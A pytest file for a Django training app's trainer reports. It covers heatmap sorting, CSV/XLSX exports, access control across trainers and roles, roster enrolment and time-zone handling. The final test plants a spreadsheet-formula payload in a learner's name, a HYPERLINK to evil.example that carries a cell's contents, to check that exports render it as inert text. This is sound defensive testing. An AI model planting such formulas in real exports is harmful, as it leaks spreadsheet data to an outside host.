"""Trainer reports and the batch admin on a small world: who sees which batch (another
trainer's batch is a 404 on every page), the heatmap sorted, the PC drill-down, a learner's
history, CSV/XLSX exports, enrolment by name and roster CSV, and assignment windows typed in the
centre's zone."""

from __future__ import annotations

import io
from datetime import UTC, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.roles import Role
from adaptive.models import AssessmentAssignment, Attempt, Mode, Response
from lti.models import Batch, BatchMembership, TrainingCentre
from question_bank.models import Item
from tests.adaptive.assessment_factories import assessment_make
from tests.question_bank.factories import content_single, item_make, user_in

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(asc_q0202):
    author, approver = user_in(Role.SSC_CURATOR), user_in(Role.SSC_CURATOR)
    items = [
        item_make(
            nos="ASC/N0001", pc=f"PC{k}", content=content_single(f"Q{k}?"),
            author=author, approver=approver,
        )
        for k in range(1, 7)
    ]  # fmt: skip
    for k, item in enumerate(items):
        Item.objects.filter(pk=item.pk).update(discrimination=1.2, difficulty=-1.0 + 0.4 * k)
    centre = TrainingCentre.objects.create(code="pune", name="Pune centre", time_zone="Asia/Dubai")
    trainer = user_in(Role.TRAINER, full_name="Tarun Trainer")
    strong = user_in(Role.LEARNER, full_name="Asha Strong")
    weak = user_in(Role.LEARNER, full_name="Bala Weak")
    batch = Batch.objects.create(name="Batch A", qualification_pack_code="ASC/Q0202", centre=centre)
    BatchMembership.objects.create(batch=batch, user=trainer, role=BatchMembership.Role.TRAINER)
    for learner, ok in ((strong, True), (weak, False)):
        BatchMembership.objects.create(batch=batch, user=learner)
        attempt = Attempt.objects.create(user=learner, mode=Mode.PRACTICE)
        for item in items:
            Response.objects.create(
                user=learner, attempt=attempt, item=item, item_version=item.versions.get(),
                mode=Mode.PRACTICE, answer=["A"], score=float(ok), is_correct=ok,
            )  # fmt: skip
    return {"batch": batch, "trainer": trainer, "strong": strong, "weak": weak, "centre": centre}


def test_heatmap_shows_names_percent_and_sorts_by_a_nos(client, world):
    client.force_login(world["trainer"])
    url = reverse("batch_mastery", args=[world["batch"].pk])
    page = client.get(url).content.decode()
    assert "Asha Strong" in page and "Bala Weak" in page and "pass line 75%" in page
    assert "How mastery is measured" in page and "<svg" in page
    ordered = client.get(url, {"sort": "ASC/N0001", "desc": "1"}).content.decode()
    assert ordered.index("Asha Strong") < ordered.index("Bala Weak")
    ordered = client.get(url, {"sort": "ASC/N0001"}).content.decode()
    assert ordered.index("Bala Weak") < ordered.index("Asha Strong")


def test_exports_csv_and_xlsx_with_rounded_numbers(client, world):
    client.force_login(world["trainer"])
    url = reverse("batch_mastery", args=[world["batch"].pk])
    text = client.get(url, {"format": "csv"}).content.decode()
    header, *rows = text.strip().splitlines()
    assert header.startswith("candidate,name,ASC/N0001 mastery %")
    assert any("Asha Strong" in r for r in rows)
    value = next(r for r in rows if "Asha Strong" in r).split(",")[2]
    assert value and len(value.split(".")[-1]) <= 1  # one decimal at most
    book = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
    cells = [c.value for c in book.active[3]]
    assert cells[:3] == ["candidate", "name", "ASC/N0001 mastery %"]


def test_pc_drill_down_and_learner_history(client, world):
    client.force_login(world["trainer"])
    batch = world["batch"]
    page = client.get(reverse("batch_nos", args=[batch.pk, "ASC/N0001"])).content.decode()
    assert "PC1" in page and "Expected % at the batch" in page
    page = client.get(reverse("batch_learner", args=[batch.pk, world["weak"].pk])).content.decode()
    assert "Bala Weak" in page and "6 knowledge-check answers" in page


def test_another_trainers_batch_is_not_found_on_every_page(client, world):
    client.force_login(user_in(Role.TRAINER))
    batch = world["batch"]
    for url in (
        reverse("batch_mastery", args=[batch.pk]),
        reverse("batch_mastery", args=[batch.pk]) + "?format=csv",
        reverse("batch_nos", args=[batch.pk, "ASC/N0001"]),
        reverse("batch_learner", args=[batch.pk, world["weak"].pk]),
        reverse("lms_batch_edit", args=[batch.pk]),
    ):
        assert client.get(url).status_code == 404, url


def test_a_centre_administrator_sees_the_centres_batches(client, world):
    admin = user_in(Role.TRAINER)
    world["centre"].administrators.add(admin)
    client.force_login(admin)
    assert client.get(reverse("batch_mastery", args=[world["batch"].pk])).status_code == 200


@pytest.mark.parametrize("role", [Role.LEARNER, Role.ASSESSOR, Role.SSC_CURATOR])
def test_other_roles_cannot_open_batch_pages(client, world, role):
    client.force_login(user_in(role))
    batch = world["batch"]
    assert client.get(reverse("batch_mastery", args=[batch.pk])).status_code == 403
    assert client.get(reverse("lms_batch_index")).status_code in (302, 403)


def test_trainer_creates_a_batch_and_enrols_by_name_and_roster(client, world):
    client.force_login(world["trainer"])
    response = client.post(
        reverse("lms_batch_create"),
        {"action": "save", "name": "Batch B", "centre": world["centre"].pk,
         "qualification_pack_code": "ASC/Q0202", "trainer": world["trainer"].pk},
    )  # fmt: skip
    batch = Batch.objects.get(name="Batch B")
    assert response["Location"] == reverse("lms_batch_edit", args=[batch.pk])
    edit = reverse("lms_batch_edit", args=[batch.pk])
    assert "Asha Strong" in client.get(edit, {"q": "asha"}).content.decode()
    page = client.post(
        edit, {"action": "enrol", "lines": "Asha Strong\nNobody Here"}, follow=True
    ).content.decode()
    assert "Enrolled 1 learner" in page and "No learner is called" in page
    roster = SimpleUploadedFile(
        "roster.csv", b"username,full_name,email\nnew01,Naveen New,new01@example.org\n"
    )
    page = client.post(edit, {"action": "enrol", "roster": roster}, follow=True).content.decode()
    assert "1 new account" in page
    names = set(batch.memberships.filter(role="learner").values_list("user__full_name", flat=True))
    assert names == {"Asha Strong", "Naveen New"}


def test_assignment_window_is_typed_in_the_centres_zone(client, world):
    assessment = assessment_make()
    client.force_login(world["trainer"])
    edit = reverse("lms_batch_edit", args=[world["batch"].pk])
    client.post(
        edit,
        {"action": "assign", "assessment": assessment.pk, "opens_at": "2027-01-10T09:00",
         "closes_at": "2027-01-10T12:00", "attempts_allowed": "2", "reassessment": "failed",
         "reassess_after_days": "3"},
    )  # fmt: skip
    assignment = AssessmentAssignment.objects.get()
    assert (assignment.attempts_allowed, assignment.reassess_after_days) == (2, 3)
    assert "after 3 days" in client.get(edit).content.decode()
    # 09:00 in Dubai (UTC+4) is 05:00 UTC.
    assert assignment.opens_at.astimezone(UTC).hour == 5
    assert assignment.closes_at - assignment.opens_at == timedelta(hours=3)


def _more_learners(batch, items, n: int) -> None:
    for k in range(n):
        learner = user_in(Role.LEARNER, full_name=f"Extra Learner {k:02d}")
        BatchMembership.objects.create(batch=batch, user=learner)
        for item in items:
            Response.objects.create(
                user=learner, item=item, item_version=item.versions.get(),
                mode=Mode.PRACTICE, answer=["A"], score=1.0, is_correct=True,
            )  # fmt: skip


HEATMAP_MAX_QUERIES = 19  # sessions, user, roles, batch, QP, NOS, items, responses, nav, ...


def test_the_heatmap_costs_a_fixed_number_of_queries_whatever_the_batch_size(
    client, world, django_assert_max_num_queries
):
    """A query per learner or per cell would make the 1,000-candidate report slow
    (benchmarks/report_bench.py); the count must not grow with the batch."""
    client.force_login(world["trainer"])
    url = reverse("batch_mastery", args=[world["batch"].pk])
    with django_assert_max_num_queries(HEATMAP_MAX_QUERIES) as small:
        assert client.get(url).status_code == 200
    _more_learners(world["batch"], list(Item.objects.all()), 25)
    with django_assert_max_num_queries(len(small.captured_queries)):
        page = client.get(url).content.decode()
    assert "Extra Learner 24" in page


def test_a_learner_named_like_a_formula_is_text_in_the_exports(client, world):
    """Names come from learners and LMSs: "=HYPERLINK(...)" must not run in the trainer's sheet."""
    hostile = '=HYPERLINK("https://evil.example/?"&B3,"open")'
    world["strong"].full_name = hostile
    world["strong"].save(update_fields=["full_name"])
    client.force_login(world["trainer"])
    url = reverse("batch_mastery", args=[world["batch"].pk])
    text = client.get(url, {"format": "csv"}).content.decode()
    assert f"'{hostile}" in text.replace('""', '"')
    sheet = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + hostile in [c.value for c in cells]
